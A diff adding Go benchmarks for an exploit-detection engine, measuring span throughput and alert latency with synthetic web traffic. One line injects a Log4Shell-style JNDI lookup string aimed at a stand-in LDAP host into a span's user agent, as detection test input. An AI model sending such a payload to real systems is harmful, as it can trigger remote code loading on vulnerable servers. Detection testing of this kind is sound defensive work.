@@ -1,0 +1,209 @@
+package engine
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"slices"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/evidentsec/evident/internal/detect"
+	"github.com/evidentsec/evident/internal/findings"
+	"github.com/evidentsec/evident/internal/pipeline"
+	"github.com/evidentsec/evident/internal/store/sqlite"
+	"github.com/evidentsec/evident/internal/telemetry"
+)
+
+// benchBatch is n spans of realistic traffic: requests to a handful of
+// endpoints of three services, each with a database call and an outbound
+// call, with the attributes instrumentations set; attack, when set, puts
+// a JNDI payload in the first span's user agent.
+func benchBatch(n int, seq int, attack bool) []telemetry.Span {
+	out := make([]telemetry.Span, 0, n)
+	at := t0.Add(time.Duration(seq) * time.Millisecond)
+	for i := 0; len(out) < n; i++ {
+		id := byte(i)
+		svc := []string{"gateway", "orders", "catalog"}[i%3]
+		route := fmt.Sprintf("/api/v1/items/{id}/%d", i%8)
+		out = append(out,
+			telemetry.Span{Service: svc, Kind: telemetry.SpanKindServer, TraceID: [16]byte{0: byte(seq), 1: byte(seq >> 8), 15: id},
+				SpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 1, 7: id}, Name: "GET " + route, Start: at, End: at.Add(3 * time.Millisecond),
+				Attrs: telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: route, URLPath: fmt.Sprintf("/api/v1/items/%d/%d", i, i%8),
+					URLQuery: "currency=EUR&ref=home_page", StatusCode: 200, ClientAddress: "10.0.0.7",
+					UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"}},
+			telemetry.Span{Service: svc, Kind: telemetry.SpanKindClient, TraceID: [16]byte{0: byte(seq), 15: id},
+				SpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 2, 7: id}, ParentSpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 1, 7: id},
+				Name: "SELECT items", Start: at, End: at.Add(time.Millisecond),
+				Attrs: telemetry.Attrs{DBSystem: "postgresql", DBNamespace: "shop", DBCollection: "items",
+					DBQueryText: "SELECT id, name, price FROM items WHERE id = $1 AND deleted_at IS NULL"}},
+			telemetry.Span{Service: svc, Kind: telemetry.SpanKindClient, TraceID: [16]byte{0: byte(seq), 15: id},
+				SpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 3, 7: id}, ParentSpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 1, 7: id},
+				Name: "POST", Start: at, End: at.Add(time.Millisecond),
+				Attrs: telemetry.Attrs{HTTPMethod: "POST", ServerAddress: "api.stripe.com", URLFull: "https://api.stripe.com/v1/charges", StatusCode: 200}},
+		)
+	}
+	out = out[:n]
+	if attack {
+		out[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
+	}
+	return out
+}
+
+// latencies is an Alerter that records exploit alerts' latency from
+// receipt to hand-off.
+type latencies struct {
+	mu sync.Mutex
+	d  []time.Duration
+}
+
+func (l *latencies) Fire(a detect.Alert) {
+	if a.Kind != detect.KindExploitPayload {
+		return
+	}
+	d := time.Since(a.ReceivedAt)
+	l.mu.Lock()
+	l.d = append(l.d, d)
+	l.mu.Unlock()
+}
+
+func (l *latencies) report(b *testing.B) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	if len(l.d) == 0 {
+		return
+	}
+	slices.Sort(l.d)
+	q := func(p float64) float64 { return float64(l.d[int(p*float64(len(l.d)-1))].Microseconds()) / 1000 }
+	b.ReportMetric(q(0.5), "p50-alert-ms")
+	b.ReportMetric(q(0.99), "p99-alert-ms")
+}
+
+func benchStores(b *testing.B) map[string]func(b *testing.B) Store {
+	return map[string]func(b *testing.B) Store{
+		"memory": func(*testing.B) Store { return &memStore{} },
+		"sqlite-normal": func(b *testing.B) Store {
+			cfg := sqlite.DefaultConfig()
+			cfg.Synchronous = "normal"
+			st, err := sqlite.Open(context.Background(), b.TempDir(), cfg)
+			if err != nil {
+				b.Fatal(err)
+			}
+			b.Cleanup(func() { st.Close() })
+			return st
+		},
+	}
+}
+
+// BenchmarkEngineThroughput offers 512-span batches (the OTel SDK's
+// default batch) from 4 senders as fast as the engine takes them, with
+// every detection and re-assessment on, retrying refused batches as a
+// client would. spans/s is wall time; spans/cpu-s divides by the CPU the
+// process used, which stays meaningful on a shared machine.
+func BenchmarkEngineThroughput(b *testing.B) {
+	for name, open := range benchStores(b) {
+		b.Run(name, func(b *testing.B) {
+			lat := &latencies{}
+			cfg := DefaultConfig()
+			cfg.CheckpointInterval = time.Second
+			e := newEngine(b, cfg, open(b), lat, nil)
+			ctx := context.Background()
+			if err := e.Start(ctx); err != nil {
+				b.Fatal(err)
+			}
+			if err := e.SetFindings(ctx, []findings.Finding{textFinding("gateway"), textFinding("orders")}); err != nil {
+				b.Fatal(err)
+			}
+			const size = 512
+			batches := make([][]telemetry.Span, 64)
+			for i := range batches {
+				batches[i] = benchBatch(size, i, true)
+			}
+			traces := e.TracesConsumer()
+			cpu0 := cpuTime()
+			b.ResetTimer()
+			var wg sync.WaitGroup
+			work := make(chan int)
+			for range 4 {
+				wg.Go(func() {
+					for i := range work {
+						for {
+							err := traces.Consume(ctx, slices.Clone(batches[i%len(batches)]))
+							if err == nil {
+								break
+							}
+							if !errors.Is(err, pipeline.ErrFull) {
+								b.Error(err)
+								return
+							}
+							time.Sleep(time.Millisecond)
+						}
+					}
+				})
+			}
+			for i := range b.N {
+				work <- i
+			}
+			close(work)
+			wg.Wait()
+			for len(e.slots) > 0 {
+				time.Sleep(100 * time.Microsecond)
+			}
+			b.StopTimer()
+			cpu := (cpuTime() - cpu0).Seconds()
+			spans := float64(b.N * size)
+			b.ReportMetric(spans/b.Elapsed().Seconds(), "spans/s")
+			b.ReportMetric(spans/cpu, "spans/cpu-s")
+			lat.report(b)
+			if err := e.Shutdown(ctx); err != nil {
+				b.Fatal(err)
+			}
+		})
+	}
+}
+
+// BenchmarkAlertLatency offers 512-span batches at a fixed rate of about
+// 25k spans/s, each with one exploit payload, and reports the latency
+// from receipt to the alert's hand-off to the router.
+func BenchmarkAlertLatency(b *testing.B) {
+	for name, open := range benchStores(b) {
+		b.Run(name, func(b *testing.B) {
+			lat := &latencies{}
+			e := newEngine(b, DefaultConfig(), open(b), lat, nil)
+			ctx := context.Background()
+			if err := e.Start(ctx); err != nil {
+				b.Fatal(err)
+			}
+			traces := e.TracesConsumer()
+			const size, every = 512, 20 * time.Millisecond
+			tick := time.NewTicker(every)
+			defer tick.Stop()
+			b.ResetTimer()
+			for i := range b.N {
+				<-tick.C
+				if err := traces.Consume(ctx, benchBatch(size, i, true)); err != nil {
+					b.Fatal(err)
+				}
+			}
+			for len(e.slots) > 0 {
+				time.Sleep(100 * time.Microsecond)
+			}
+			b.StopTimer()
+			lat.report(b)
+			if err := e.Shutdown(ctx); err != nil {
+				b.Fatal(err)
+			}
+		})
+	}
+}
+
+// cpuTime is the CPU time the process used so far.
+func cpuTime() time.Duration {
+	var ru syscall.Rusage
+	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
+		return 0
+	}
+	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
+}
